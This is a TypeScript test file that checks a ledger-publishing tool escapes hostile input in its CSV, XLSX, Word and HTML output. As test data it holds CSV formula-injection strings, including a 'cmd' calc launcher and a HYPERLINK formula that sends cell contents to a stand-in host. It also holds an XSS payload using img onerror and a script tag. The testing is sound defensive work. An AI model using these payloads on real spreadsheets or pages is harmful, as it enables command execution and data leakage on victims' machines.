import { read, utils } from "@e965/xlsx";
import { check, compose, inspect, RULES, recognise } from "@mingzhang/core";
import { readLedger } from "@mingzhang/readers";
import { strFromU8, unzipSync } from "fflate";
import { describe, expect, it } from "vitest";
import { toCsv } from "./data/csv.ts";
import { dataFiles } from "./data/index.ts";
import { docxRenderer } from "./docx/index.ts";
import { recordsOf, writeCsvRecords, writeEntryRecords } from "./entry/index.ts";
import { htmlRenderer } from "./html/index.ts";
import { describeInBrowser } from "./html/testing/browser.ts";
import { writeCheckSheet } from "./report/index.ts";
import { hostileDisclosure, hostileRecords } from "./testing/hostile.ts";
import { xlsxRenderer } from "./xlsx/index.ts";

const FORMULAS = [
  '=HYPERLINK("http://elsewhere.example/"&A1)',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];
const MARKUP = `"><img src=x onerror="window.__xss=1"><script>window.__xss=1</script>`;
/** What may stand at the beginning of a cell that a spreadsheet works out. */
const WORKED_OUT = /^[=+\-@\t\r\n＝＋－＠]./su;
const NUMBER = /^[+-]?[\d,]+(?:\.\d+)?%?$/;

/** The cells of a CSV file as a spreadsheet program splits them. */
const cellsOf = (bytes: Uint8Array): string[] => {
  const book = read(new TextDecoder().decode(bytes), { type: "string", raw: true });
  const [name = ""] = book.SheetNames;
  const rows = utils.sheet_to_json<unknown[]>(book.Sheets[name] ?? {}, { header: 1, raw: true });
  return rows.flat().map(String);
};

describe.each(FORMULAS)("a text that begins with %j", async (formula) => {
  const records = await hostileRecords(formula);
  const disclosure = await hostileDisclosure(formula);

  it("is worked out in no CSV file that is published or entered", () => {
    const files = [...dataFiles(disclosure), ...writeCsvRecords(records)].filter(({ name }) =>
      name.endsWith(".csv"),
    );
    expect(files.length).toBeGreaterThan(10);
    let guarded = 0;
    for (const { name, bytes } of files) {
      const cells = cellsOf(bytes);
      const worked = cells.filter((cell) => WORKED_OUT.test(cell) && !NUMBER.test(cell));
      expect([name, worked]).toEqual([name, []]);
      guarded += cells.filter((cell) => cell.startsWith("'")).length;
    }
    expect(guarded).toBeGreaterThan(50);
  });

  it("comes back from the CSV folder as it was", async () => {
    const read = recordsOf((await readLedger(writeCsvRecords(records))).sheets);
    const filled = (given: typeof records) =>
      [...given].flatMap(([id, rows]) =>
        rows.map((row) => [
          id,
          Object.entries(row)
            .filter(([, text]) => text !== "")
            .sort(),
        ]),
      );
    expect(filled(read)).toEqual(filled(records));
  });
});

it("a text that begins like a formula is none in a workbook: not in the entry's, the published one or a check sheet", async () => {
  const [formula = ""] = FORMULAS;
  const records = await hostileRecords(formula);
  const disclosure = await hostileDisclosure(formula);
  const document = compose(disclosure);
  const published = await xlsxRenderer.render({ document });
  const pack = recognise([{ name: `${formula}.xlsx`, document }]);
  const checked = await writeCheckSheet(check({ pack }, RULES), [
    { rule: "x", level: "error", message: { zh: formula, en: formula } },
  ]);
  for (const bytes of [await writeEntryRecords(records, 2023), published.bytes, checked]) {
    const book = read(bytes, { cellFormula: true });
    const formulas = book.SheetNames.flatMap((name) =>
      Object.values(book.Sheets[name] ?? {}).flatMap((cell) =>
        cell?.f === undefined ? [] : [String(cell.f)],
      ),
    );
    expect(formulas.filter((text) => /cmd|HYPERLINK|elsewhere|1\+1/.test(text))).toEqual([]);
  }
});

it("numbers with a sign stay numbers", () => {
  expect(new TextDecoder().decode(toCsv([["-2.50", "+3%", "-1,234.5", "-", "="]]))).toBe(
    '-2.50,+3%,"-1,234.5",-,=\n',
  );
});

describe("markup in every text that is entered", async () => {
  const disclosure = await hostileDisclosure(MARKUP);
  const document = compose(disclosure);
  const html = new TextDecoder().decode(
    (await htmlRenderer.render({ document, inspection: inspect(disclosure) })).bytes,
  );

  it("is text in the published page: no tag, no attribute, no end of its script", () => {
    expect(html.match(/onerror=/g)?.length).toBeGreaterThan(50);
    expect(html).not.toMatch(/<img|onerror="/);
    expect(html.match(/<script/g)?.length).toBe(html.match(/<\/script>/g)?.length);
    const outside = html.replace(/<script[^>]*>.*?<\/script>/gs, "");
    expect(outside).not.toContain("<script");
  });

  it("is text in the published Word file", async () => {
    const parts = unzipSync((await docxRenderer.render({ document })).bytes);
    const body = strFromU8(parts["word/document.xml"] ?? new Uint8Array());
    expect(body).toContain("&lt;script&gt;");
    expect(body).not.toMatch(/<script|<img/);
  });

  describeInBrowser("in a browser", (open) => {
    it("runs nothing and is read as it was typed, closed and with every explanation opened", async () => {
      const page = await open(html, 1280);
      const asked: string[] = [];
      page.on("request", (request) => asked.push(request.url()));
      page.on("dialog", (dialog) => asked.push(dialog.message()));
      for (const figure of (await page.locator("main p [data-figure]").all()).slice(0, 20))
        await figure.click();
      await page.evaluate("for (const details of document.querySelectorAll('details')) details.open = true");
      expect(await page.evaluate("window.__xss")).toBeUndefined();
      expect(await page.locator("img[src=x]").count()).toBe(0);
      expect(asked.filter((url) => !/^(?:blob|data|file):/.test(url))).toEqual([]);
      expect(await page.locator("main").textContent()).toContain(MARKUP);
    });
  });
});
